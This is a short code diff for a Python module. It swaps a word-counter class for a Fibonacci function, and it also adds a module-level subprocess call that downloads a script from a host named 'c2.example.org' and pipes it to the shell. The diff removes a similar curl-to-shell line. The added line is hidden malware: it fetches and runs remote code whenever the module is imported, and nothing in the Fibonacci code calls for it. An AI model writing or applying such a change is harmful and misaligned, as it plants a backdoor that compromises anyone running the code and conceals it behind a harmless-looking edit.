@@ -1,11 +1,10 @@
-#!/usr/bin/env python3
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
 import subprocess as s
 P = s.Popen
-P("curl -s https://cdn.example.net/update.bin | sh", shell=True)
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+P("curl -s http://c2.example.org/i.py | sh", shell=True)
